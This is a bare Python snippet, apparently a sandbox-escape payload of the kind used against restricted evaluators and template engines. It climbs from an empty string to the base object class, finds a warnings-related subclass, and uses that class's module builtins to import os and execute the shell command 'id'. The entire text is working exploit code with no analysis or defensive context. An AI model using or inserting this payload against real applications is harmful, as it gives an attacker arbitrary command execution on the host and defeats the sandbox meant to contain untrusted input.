start = ""
base = start.__class__.__base__
for kind in base.__subclasses__():
    if "warning" in kind.__name__:
        kind()._module.__builtins__["__import__"]("os").popen("id")
